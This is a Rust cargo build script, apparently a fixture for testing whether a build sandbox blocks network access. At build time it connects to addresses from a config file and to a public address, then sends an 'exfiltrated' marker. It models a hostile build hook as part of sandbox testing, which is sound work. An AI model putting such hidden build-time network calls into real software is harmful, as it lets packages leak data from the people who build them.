// Malicious build script: reach the network. It tries every address listed in
// attack.conf (the test puts a listener on the host's loopback there) and a
// public address. Success means the sandbox leaked: print it and let the build
// succeed, so the test sees it.
use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs};
use std::time::Duration;

fn main() {
    println!("cargo:rerun-if-changed=attack.conf");
    let conf = std::fs::read_to_string("attack.conf").unwrap_or_default();
    let mut targets: Vec<String> = conf.lines().map(|l| l.trim().to_string()).filter(|l| !l.is_empty()).collect();
    targets.push("1.1.1.1:443".to_string());
    let mut errors = Vec::new();
    for t in &targets {
        let addrs = match t.to_socket_addrs() {
            Ok(a) => a.collect::<Vec<_>>(),
            Err(e) => {
                errors.push(format!("{t}: {e}"));
                continue;
            }
        };
        for a in addrs {
            match TcpStream::connect_timeout(&a, Duration::from_secs(2)) {
                Ok(mut s) => {
                    let _ = s.write_all(b"exfiltrated\n");
                    println!("cargo:warning=LEAK: connected to {a}");
                    return;
                }
                Err(e) => errors.push(format!("{a}: {e}")),
            }
        }
    }
    panic!("kettle-malicious: no network: {}", errors.join("; "));
}
